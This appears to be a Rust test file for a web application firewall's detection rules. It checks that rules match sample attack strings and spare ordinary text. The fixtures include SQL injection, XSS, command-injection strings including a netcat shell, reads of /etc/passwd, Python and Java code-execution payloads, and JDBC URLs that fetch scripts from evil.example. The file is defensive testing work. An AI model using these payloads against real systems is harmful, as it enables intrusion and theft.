use super::*;
use crate::ruleset::RULES;

fn compiled() -> Vec<Rule> {
    RULES
        .iter()
        .map(|spec| match compile_spec(spec) {
            Ok(uncompiled) => uncompiled.rule,
            Err(error) => panic!("{error}"),
        })
        .collect()
}

#[test]
fn builtin_rules_compile() {
    let rules = compiled();
    assert_eq!(rules.len(), RULES.len());
    for rule in &rules {
        if let Operator::Regex { regex, .. } = &rule.operator {
            if let Err(error) = regex_lite::Regex::new(regex.pattern()) {
                panic!("{}: {error}", rule.info.id);
            }
            assert!(regex.get().is_some(), "{}", rule.info.id);
        }
    }
}

/// Returns whether `need` holding implies that one of `prefilter` occurs:
/// every way for `need` to hold has a required literal that contains one.
fn implies_one_of(need: &literals::Need, prefilter: &[&str]) -> bool {
    match need {
        literals::Need::Always => false,
        literals::Need::Literal(text) => prefilter.iter().any(|literal| text.contains(literal)),
        literals::Need::All(parts) => parts.iter().any(|part| implies_one_of(part, prefilter)),
        literals::Need::Any(parts) => parts.iter().all(|part| implies_one_of(part, prefilter)),
    }
}

/// Rules the branch check skips. In most, a prefilter literal spans `\s*`
/// or `\s+` (`reg ` for `reg\s+add`), which the literal parser splits, or
/// an exact set is cut by the cross-product limit, so the check cannot judge
/// them. The last four keep a branch that runs only beside a prefilter
/// literal of another branch, because alone it would block ordinary text.
/// Those branches are a bare comparison such as `1=1`, an event attribute
/// after a quote, and cookie attributes without the word `cookie`. The
/// fourth is `java.lang` or `serialization` in a value that is not base64.
const SPLIT_LITERAL_RULES: &[&str] = &[
    "cmdi-windows",
    "cmdi-chained-cd-or-here-string",
    "php-wrapper-upload",
    "java-script-upload",
    "perl-ruby-injection",
    "xss-javascript-uri",
    "xss-javascript-uri-split",
    "xss-script-api",
    "xss-css-expression",
    "sqli-keyword-sequence",
    "cmdi-obfuscated-system-file",
    "sqli-subquery-or-evasion",
    "sqli-operator-only-name",
    "sqli-operator-only-value",
    "cmdi-cli-dot-command",
    "ldap-injection",
    "sqli-boolean-operator",
    "xss-obfuscated-script",
    "session-fixation-set-cookie",
    "base64-encoded-attack",
];

#[test]
fn prefilter_literals_cover_every_branch() {
    // A regex branch whose matches contain none of the rule's prefilter
    // literals never runs, because the filter skips the regex on values
    // without one of them. Patterns the literal parser does not follow
    // require nothing and are skipped here.
    let mut uncovered = Vec::new();
    for spec in RULES {
        let (Test::Regex(prefilter, pattern) | Test::WordRegex(prefilter, pattern)) = spec.test
        else {
            continue;
        };
        if prefilter.is_empty() || SPLIT_LITERAL_RULES.contains(&spec.info.id) {
            continue;
        }
        let need = literals::required(pattern);
        if need != literals::Need::Always && !implies_one_of(&need, prefilter) {
            let branches = match &need {
                literals::Need::Any(parts) => parts
                    .iter()
                    .filter(|part| !implies_one_of(part, prefilter))
                    .collect(),
                other => vec![other],
            };
            uncovered.push(format!("{} {prefilter:?}: {branches:?}", spec.info.id));
        }
    }
    assert!(
        uncovered.is_empty(),
        "regex branches whose matches contain none of the prefilter literals:\n{}",
        uncovered.join("\n")
    );
    for id in SPLIT_LITERAL_RULES {
        assert!(
            RULES.iter().any(|spec| spec.info.id == *id),
            "{id} is not a rule"
        );
    }
}

#[test]
fn rule_ids_are_unique() {
    let mut ids: Vec<_> = RULES.iter().map(|spec| spec.info.id).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), RULES.len());
}

#[test]
fn paranoia_levels_are_valid() {
    for spec in RULES {
        assert!((1..=4).contains(&spec.paranoia), "{}", spec.info.id);
    }
}

#[test]
fn severity_scores() {
    assert_eq!(Severity::Low.score(), 21);
    assert_eq!(Severity::Critical.score(), 99);
    assert_eq!(Severity::Medium.anomaly_points(), 3);
    assert_eq!(Severity::Critical.anomaly_points(), 5);
}

#[test]
fn prefilter_skips_regex() {
    let rules = compiled();
    let Some(union) = rules
        .iter()
        .find(|rule| rule.info.id == "sqli-union-select")
    else {
        panic!("sqli-union-select is missing");
    };
    assert_eq!(union.find("no keyword here"), None);
    assert_eq!(union.find("1 union select 2"), Some(2..14));
}

#[test]
fn rule_names_limit_targets() {
    let rules = compiled();
    let Some(scanner) = rules
        .iter()
        .find(|rule| rule.info.id == "scanner-user-agent")
    else {
        panic!("scanner-user-agent is missing");
    };
    assert!(scanner.applies_to(TargetKind::HeaderValue, "user-agent"));
    assert!(!scanner.applies_to(TargetKind::HeaderValue, "referer"));
    assert!(!scanner.applies_to(TargetKind::ArgValue, "user-agent"));
}

#[test]
fn words_match_whole_words_only() {
    let spec = RuleSpec {
        info: RuleInfo {
            id: "test-words",
            name: "test",
            severity: Severity::Low,
        },
        paranoia: 1,
        scope: ARGS,
        names: &[],
        skip_structured: false,
        transforms: &[],
        test: Test::Words(&["cat"]),
    };
    let rule = match compile_spec(&spec) {
        Ok(uncompiled) => uncompiled.rule,
        Err(error) => panic!("{error}"),
    };
    assert_eq!(rule.find("a cat here"), Some(2..5));
    assert_eq!(rule.find("concatenate"), None);
}

#[test]
fn libinjection_operators() {
    let rules = compiled();
    let find = |id: &str, text: &str| {
        rules
            .iter()
            .find(|rule| rule.info.id == id)
            .and_then(|rule| rule.find(text))
    };
    assert!(find("sqli-libinjection", "1' or '1'='1").is_some());
    assert!(find("sqli-libinjection", "O'Reilly books").is_none());
    assert!(find("xss-libinjection", "<img src=x onerror=alert(1)>").is_some());
    assert!(find("xss-libinjection", "hello world").is_none());
}

/// The libinjection operators skip values of ASCII letters and digits only,
/// which both tokenizers read as one word or number. This checks that the
/// tokenizers report none of them: SQL keywords, function names and
/// fingerprint-like words with digits around them, and pseudo-random strings.
#[test]
fn libinjection_ignores_alphanumeric_values() {
    let words = [
        "union",
        "select",
        "or",
        "and",
        "sleep",
        "benchmark",
        "version",
        "user",
        "char",
        "concat",
        "waitfor",
        "delay",
        "exec",
        "xp_cmdshell",
        "having",
        "order",
        "by",
        "null",
        "true",
        "false",
        "script",
        "alert",
        "onerror",
        "javascript",
        "svg",
        "img",
        "iframe",
        "1UE",
        "sos",
        "1ovo",
        "nUE",
        "UNION",
        "SELECT",
        "Or",
        "0x41",
        "1e1",
        "e",
        "x",
    ];
    let mut values = Vec::new();
    for word in words {
        for value in [
            word.to_string(),
            format!("1{word}"),
            format!("{word}1"),
            format!("1{word}1"),
            format!("{word}{word}"),
        ] {
            values.push(value);
        }
    }
    let alphabet = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789eEx";
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    for _ in 0..20_000 {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        let length = 1 + (state >> 60) as usize;
        let value: String = (0..length)
            .map(|index| {
                let pick = (state >> (index * 4 % 56)) as usize % alphabet.len();
                alphabet[pick] as char
            })
            .collect();
        values.push(value);
    }
    for value in values.iter().filter(|value| is_alphanumeric(value)) {
        assert!(
            !libinjectionrs::detect_sqli(value.as_bytes()).is_injection(),
            "libinjection reports SQL injection in {value:?}"
        );
        assert!(
            !libinjectionrs::detect_xss(value.as_bytes()).is_injection(),
            "libinjection reports XSS in {value:?}"
        );
    }
}

#[test]
fn literal_search_finds_word_starts_after_other_occurrences() {
    assert!(contains_literal("category; cat /etc/passwd", "cat", true));
    assert!(!contains_literal("category concat", "cat", true));
    assert!(contains_literal("concat", "cat", false));
    // Overlapping occurrences: the second `aa` of `aaa` ends the value.
    assert!(contains_literal("baaa", "aa", false));
    // A multi-byte first character moves the search by whole characters.
    assert!(contains_literal("éé x", "é", false));
    assert!(!contains_literal("", "x", false));
}

#[test]
fn code_fingerprints_are_told_apart() {
    // Bare words, calls and operators: `if (a < b && c > d)`.
    assert!(is_code_fingerprint(b"f(n&n\0\0\0", true));
    assert!(is_code_fingerprint(b"n&n", true));
    assert!(is_code_fingerprint(b"n&n", false));
    // A number, a string or a keyword makes it an injection shape.
    assert!(!is_code_fingerprint(b"1&1", true));
    assert!(!is_code_fingerprint(b"s&sos", true));
    assert!(!is_code_fingerprint(b"f(n)k", true));
    // `null or undefined` has a variable token, which counts as code only
    // when the value has no `@`.
    assert!(is_code_fingerprint(b"v&n", true));
    assert!(!is_code_fingerprint(b"v&n", false));
}

#[test]
fn code_shaped_values_skip_the_sql_tokenizer() {
    let rules = compiled();
    let Some(sqli) = rules
        .iter()
        .find(|rule| rule.info.id == "sqli-libinjection")
    else {
        panic!("sqli-libinjection is a built-in rule");
    };
    assert_eq!(sqli.find("if (a < b && c > d) { return x; }"), None);
    assert!(sqli.find("1' || '1'='1").is_some());
    assert!(sqli.find("1 && 1=1").is_some());
}

#[test]
fn plain_style_attributes_are_renamed() {
    assert_eq!(
        neutralize_plain_styles(r#"<p style="text-align: center;">x</p>"#).as_deref(),
        Some(r#"<p title="text-align: center;">x</p>"#)
    );
    assert_eq!(
        neutralize_plain_styles("<span style='color: rgb(230, 0, 0)'>").as_deref(),
        Some("<span title='color: rgb(230, 0, 0)'>")
    );
    // Unsafe CSS and unquoted values are left for libinjection.
    assert_eq!(
        neutralize_plain_styles(r#"<p style="width: expression(alert(1))">"#),
        None
    );
    assert_eq!(
        neutralize_plain_styles(r#"<p style="background: url(javascript:x)">"#),
        None
    );
    assert_eq!(neutralize_plain_styles("<p style=color:red>"), None);
    assert_eq!(neutralize_plain_styles(r#"<p style="x"#), None);
}

#[test]
fn styled_markup_passes_the_xss_tokenizer() {
    let rules = compiled();
    let Some(xss) = rules.iter().find(|rule| rule.info.id == "xss-libinjection") else {
        panic!("xss-libinjection is a built-in rule");
    };
    assert_eq!(
        xss.find(r#"<p style="text-align: center;">centered</p>"#),
        None
    );
    assert!(xss.find(r#"<p style="x:expression(alert(1))">"#).is_some());
    assert!(xss.find("<img src=x onerror=alert(1)>").is_some());
}

/// The XSS check skips values without `<` and `=`; libinjection's tokenizer
/// must report none of them in any of its contexts.
#[test]
fn xss_check_needs_bracket_or_equals() {
    let pieces = [
        "javascript:",
        "alert(1)",
        "onerror",
        "onload",
        "style",
        "expression(",
        "\"",
        "'",
        "`",
        " ",
        "/",
        ">",
        "!",
        "--",
        "?",
        "%",
        "&#",
        "src",
        "href",
        "xmlns",
        "[if",
        "import",
        "x",
        "\t",
        "\\",
        ";",
        ":",
        "\n",
    ];
    for a in pieces {
        for b in pieces {
            for c in pieces {
                for d in ["", "script", "svg", "data:text/html", "vbscript:"] {
                    let text = format!("{a}{b}{d}{c}");
                    assert!(
                        !libinjectionrs::detect_xss(text.as_bytes()).is_injection(),
                        "libinjection reports {text:?}, which has neither < nor ="
                    );
                }
            }
        }
    }
}

/// Runs the built-in rule `id` over `value` after its transform chain.
fn rule_matches(id: &str, value: &str) -> bool {
    let Some(spec) = RULES.iter().find(|spec| spec.info.id == id) else {
        panic!("{id} is missing");
    };
    let rule = match compile_spec(spec) {
        Ok(uncompiled) => uncompiled.rule,
        Err(error) => panic!("{error}"),
    };
    let decoded = crate::decode::apply(spec.transforms, value.as_bytes());
    rule.find(&String::from_utf8_lossy(&decoded)).is_some()
}

/// Checks that rule `id` matches every value of `attacks` and none of
/// `ordinary`.
fn check_rule(id: &str, attacks: &[&str], ordinary: &[&str]) {
    for value in attacks {
        assert!(rule_matches(id, value), "{id} misses {value:?}");
    }
    for value in ordinary {
        assert!(!rule_matches(id, value), "{id} matches {value:?}");
    }
}

#[test]
fn sqlite_dot_commands() {
    check_rule(
        "cmdi-cli-dot-command",
        &[
            ";\\n.databases",
            "x;\n.tables",
            "1; .schema users",
            "a|.dump",
            "x\n.load /tmp/evil.so",
            "x;.read /etc/passwd",
            "x;.output /var/www/shell.php",
            "x\n.shell id",
        ],
        &[
            "see the .tables section",
            "version 1.2.dump",
            "file.schema.json",
            "x;.read",
            ".tables",
            ".read-more",
            "conference; load balancing talk",
        ],
    );
}

#[test]
fn ldap_filter_opened_at_value_end() {
    check_rule(
        "ldap-injection",
        &["test)\t(\t|", "admin)(|", "x) (&", "x)(!"],
        &["(555) 123-4567", "a (b) c", "smile :) (see |", "x)(y"],
    );
}

#[test]
fn distinctive_php_functions_after_any_text() {
    check_rule(
        "php-function-call",
        &[
            "FOOfsockopen()",
            "xshell_exec('id')",
            "1proc_open(",
            "abcfile_get_contents('/etc/passwd')",
        ],
        &[
            "fsockopen is a PHP function",
            "my_passthrough(x)",
            "obj.system(1)",
            "use phpinfo for debugging",
        ],
    );
}

#[test]
fn java_lang_process_in_body() {
    check_rule(
        "java-runtime-keyword",
        &["test=java.lang.Process", "java.lang.System.exit(0)"],
        &["java.language settings", "I learned java last year"],
    );
}

#[test]
fn serialized_java_in_quotes() {
    check_rule(
        "java-serialized-object",
        &[
            r#"{"Cs7QAF": "test"}"#,
            r#"{"data": "rO0ABXNyABFqYXZh"}"#,
            "['KztAAU']",
            "x=rO0ABXQ",
        ],
        &["tokenCs7QAFx", r#"{"id": "abcKztAAUdef"}"#],
    );
}

#[test]
fn account_name_before_quote() {
    check_rule(
        "sqli-auth-bypass",
        &[
            "admin '",
            "admin'",
            "administrator' --",
            "root ' #",
            "test' or 1",
            "x' and name='root '",
            "admin\"",
        ],
        &[
            "the admin's guide",
            "role = 'admin'",
            "He said \"I am the admin\"",
            "<a href=\"test\"",
            "root 'folder' here",
            "O'Reilly",
            "users' list",
            "select a plan",
        ],
    );
}

#[test]
fn words_split_by_empty_quotes() {
    check_rule(
        "cmdi-quote-split-word",
        &[
            r#"""p""y""t""h""o""n""3"".""1""0""%20""c""m""d"""#,
            "w''h''o''am''i",
            r#"/u""s""r/b""in/id"#,
            "/bin/b''a''s''h",
        ],
        &[
            "O''Reilly''s",
            r#"He said ""hello"" and ""bye"""#,
            "it''s",
            r#"a "" b "" c "" d"#,
            "x = '' + y + '' + z + ''",
            r#"Poster 24""x36""x2""-pack"#,
        ],
    );
}

#[test]
fn flight_reference_to_prototype() {
    check_rule(
        "node-flight-prototype-reference",
        &[
            r#"{"reason":{"0":"$7:Module:prototype"}}"#,
            r#""then":"$1:__proto__:then""#,
            "$@0:constructor:constructor",
            "$B:prototype",
        ],
        &[
            "JavaScript prototype chains",
            "price: $7 constructor set",
            "$1:then",
            r#"{"value":"$9"}"#,
        ],
    );
}

#[test]
fn request_line_in_body() {
    check_rule(
        "http-request-in-body",
        &[
            "barGET /a.html HTTP/1.1\r\nSomething: x\r\n",
            "x\r\n\r\nPOST /admin HTTP/1.0\r\nHost: internal\r\n\r\n",
            "0\r\n\r\nGET http://internal/admin HTTP/1.1\r\nHost: x\r\n",
            "0\r\n\r\nGET /admin HTTP/1.0\r\n\r\n",
        ],
        &[
            "Send a GET request to /a.html over HTTP/1.1.",
            "GET /a.html HTTP/1.1",
            "the GET / HTTP/2 request\nHost: a",
            // Documentation in Markdown shows requests with bare LF.
            "# API\n\n```\nGET /users HTTP/1.1\nAccept: application/json\n```",
        ],
    );
}

#[test]
fn out_of_band_domains() {
    check_rule(
        "scanner-oast-domain",
        &[
            "http://x7k2p9.oastify.com/",
            "nslookup cnk3j1.interact.sh",
            "abc123.burpcollaborator.net",
            "http://abc.dnslog.cn/",
            "x.abc123.ceye.io",
            "${jndi:ldap://c0ffee.oast.fun/a}",
        ],
        &[
            "https://interact.shop/cart",
            "how to interact.share a file",
            "ceyeio.example",
            "https://oast.example.com/",
        ],
    );
}

#[test]
fn scanner_header_names() {
    check_rule(
        "scanner-header",
        &[
            "acunetix-product",
            "Acunetix-Scanning-agreement",
            "x-scanner",
            "x-wipp",
        ],
        &["x-scanner-id", "acunetix", "x-request-id", "user-agent"],
    );
}

#[test]
fn exploit_probe_paths() {
    check_rule(
        "scanner-exploit-path",
        &[
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/_ignition/execute-solution",
            "/boaform/admin/formLogin",
            "/GponForm/diag_Form",
            "/HNAP1/",
        ],
        &[
            "/docs/eval-stdin.php.html",
            "/blog/ignition/execute-solution",
            "/HNAP1/status",
            "/products/hnap1",
        ],
    );
}

#[test]
fn twig_callbacks() {
    check_rule(
        "ssti-twig-callback",
        &[
            r#"{{_self.env.registerUndefinedFilterCallback("exec")}}"#,
            "{{['id']|filter('system')}}",
            "{{['id']|map('passthru')|join}}",
            "{{['id',0]|reduce('system')}}",
            "{{['id',1]|sort('system')|join}}",
            r#"{{_self.env.setCache("ftp://evil.example:2121")}}"#,
        ],
        &[
            "{{ users|filter(u => u.active) }}",
            "{{ items|map('upper') }}",
            "a | filter('system settings')",
            "self.env.getFilter",
        ],
    );
}

#[test]
fn python_code_injection() {
    check_rule(
        "python-code-injection",
        &[
            "__import__('os').popen('id').read()",
            "__import__ ('subprocess').check_output(['id'])",
            "().__class__.__bases__[0].__subclasses__()",
            "x.__globals__['os']",
            "__builtins__.eval",
        ],
        &[
            "self.__class__.__name__",
            "the __init__ method",
            "def __repr__(self):",
            "import os",
        ],
    );
}

#[test]
fn python_pickles_in_base64() {
    check_rule(
        "python-pickle-call",
        &[
            "Y29zCnN5c3RlbQooUydpZCcKdFIu",
            "gASVLQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
            "gAJjc3VicHJvY2VzcwpjaGVja19vdXRwdXQKcQA=",
        ],
        &[
            "eyJvcyI6InN5c3RlbSBkZWZhdWx0IiwidGhlbWUiOiJkYXJrIn0=",
            "c3lzdGVtIHNldHRpbmdz",
            "hello",
        ],
    );
}

#[test]
fn jdbc_urls_with_code_options() {
    check_rule(
        "java-jdbc-url-attack",
        &[
            "jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
            "jdbc:h2:mem:;INIT=CREATE ALIAS EXEC AS 'void e(String c) throws Exception {}'",
            "jdbc:mysql://evil.example:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
            "jdbc:mysql://evil.example/db?allowLoadLocalInfile=true",
        ],
        &[
            "jdbc:postgresql://db.internal:5432/app?sslmode=require",
            "jdbc:h2:mem:test;DB_CLOSE_DELAY=-1",
            "jdbc:mysql://db/app?autoDeserialize=false",
        ],
    );
}

#[test]
fn dotnet_process_start() {
    check_rule(
        "dotnet-process-start",
        &[
            r#"@{ var p = System.Diagnostics.Process.Start("cmd"); }"#,
            r#"new System.Diagnostics.ProcessStartInfo("whoami")"#,
            r#"Process.Start("powershell", "-c id")"#,
        ],
        &[
            "the process starts at 9am",
            "Process.Start(info) returns a Process",
            "system diagnostics report",
        ],
    );
}

#[test]
fn javascript_string_breakouts() {
    check_rule(
        "xss-js-string-breakout",
        &[
            "'-print()-'",
            "'-alert(1)-'",
            "\"+alert(document.domain)+\"",
            "';alert(1)//",
        ],
        &[
            "'-1'",
            "'hello' + name(x) + '!'",
            "he said '- see(below) -' later",
            "O'Reilly - Learning(2nd) - book",
        ],
    );
}

#[test]
fn quoted_signed_numbers_are_not_arithmetic() {
    check_rule(
        "sqli-operator-after-quote",
        &["'-'", "1'-1-'", "admin'-'", "'+1+'", "x'|1|'", "'-1"],
        &[
            "{stamp:'-1',necessary:true,method:'explicit',ver:1}",
            "offset '-1' applied",
            "temperature \"-3.5\" today",
        ],
    );
}

#[test]
fn unicode_line_breaks_in_arguments() {
    check_rule(
        "crlf-injection",
        &[
            "%E5%98%8A%E5%98%8DLocation:%20http://evil.example",
            "\u{560a}\u{560d}Set-Cookie: a=b",
            "\u{10d}\u{10a}X-Injected: 1",
        ],
        &["嘊嘍 今天", "klíč host: example.com", "čas"],
    );
}

#[test]
fn output_substitution_is_not_a_generic_call() {
    check_rule(
        "cmdi-substitution",
        &[
            "tee >(sh)",
            ";cat<(id)",
            "x;>(nc -e sh h 1)",
            "diff <(ls /) x",
        ],
        &[
            "function first<T>(xs: T[]): T | undefined { return xs[0]; }",
            "const m = new Map<string, number>(entries);",
            "items.map(x =>(x.id))",
        ],
    );
}

#[test]
fn java_stack_traces_are_not_class_references() {
    let traces = [
        "ERROR java.lang.NullPointerException: Cannot invoke \"String.length()\"\n\tat com.example.Foo.bar(Foo.java:42)\n\tat java.base/java.lang.Thread.run(Thread.java:833)",
        "Caused by: java.io.FileNotFoundException: /opt/app/config/app.yml (No such file or directory)",
    ];
    check_rule(
        "java-class-reference",
        &[
            "@java.lang.Thread@sleep(5000)",
            "java.lang.Thread.sleep(10000)",
            "new java.io.FileOutputStream(\"/tmp/x\")",
            "new java.io.File(\"/etc/passwd\")",
            "new java.io.FileWriter(path)",
        ],
        &traces,
    );
    check_rule(
        "java-runtime-keyword",
        &["java.lang.Thread.sleep(10000)", "java.lang.System.exit(0)"],
        &traces,
    );
}

#[test]
fn var_lib_only_where_secrets_live() {
    check_rule(
        "lfi-sensitive-file",
        &[
            "../../../../var/lib/mlocate/mlocate.db",
            "/var/lib/php/sessions/sess_0123abcd",
            "/var/lib/php7/sess_0123abcd",
            "/var/lib/jenkins/secrets/initialAdminPassword",
            "/var/log/apache2/access.log",
        ],
        &[
            "RUN apt-get update && rm -rf /var/lib/apt/lists/*",
            "volumes:\n  - /var/lib/postgresql/data:/var/lib/postgresql/data",
        ],
    );
}

#[test]
fn precomputed_needs_are_current() {
    let rules = compiled();
    let text = needs::render(&rules);
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/src/rules/needs/table.rs");
    // `make needs` writes the table, then runs this test again on a build
    // that compiles the new table in.
    if std::env::var_os("PORTCULLIS_WRITE_NEEDS").is_some() {
        std::fs::write(path, &text).unwrap();
        return;
    }
    let current = std::fs::read_to_string(path).unwrap();
    assert!(
        current == text,
        "src/rules/needs/table.rs is not current: run `make needs`"
    );
    for rule in &rules {
        if let Operator::Regex { regex, .. } = &rule.operator {
            assert_eq!(
                needs::precomputed(rule.info.id, regex.pattern()),
                Some(literals::required(regex.pattern())),
                "{}",
                rule.info.id
            );
            assert_eq!(
                needs::precomputed(rule.info.id, "(?:other)"),
                None,
                "{}",
                rule.info.id
            );
        }
    }
}

#[test]
fn malformed_needs_decode_to_none() {
    use literals::{decode, Need};
    assert_eq!(
        decode(b"&\x02\"\x01a|\x01*"),
        Some(Need::All(vec![
            Need::Literal("a".into()),
            Need::Any(vec![Need::Always])
        ]))
    );
    for bytes in [
        &b""[..],
        b"\"\x05ab",
        b"&\x02*",
        b"**",
        b"?",
        b"\"\x01\xff",
        b"|",
    ] {
        assert_eq!(
            decode(bytes),
            None,
            "{:?}",
            bytes.escape_ascii().to_string()
        );
    }
    let deep = [b"&\x01".repeat(100), b"*".to_vec()].concat();
    assert_eq!(decode(&deep), None);
}

#[test]
fn passwords_with_quoted_words_are_not_arithmetic() {
    check_rule(
        "sqli-operator-after-quote",
        &["admin'-'", "x'|1|'", "'-1", "1\"-1-\""],
        &["G0-'Irish'-2024", "say 'hi'-5 times", "\"quoted\"-3"],
    );
}

#[test]
fn boolean_probes_need_a_separate_keyword() {
    check_rule(
        "sqli-auth-bypass",
        &["x or 1=1", "x or(1=1)", "1 and 2>1", "x'or 1=1--"],
        &["or1=1dog", "color1=1", "band2=2"],
    );
}

#[test]
fn safe_text_assignment_is_not_script() {
    check_rule(
        "xss-script-api",
        &[
            "document.querySelector(\"p\").textContent=\"XSS\"",
            "el.innerHTML = location.hash",
        ],
        &["document.getElementById('out').textContent = user.name;"],
    );
}
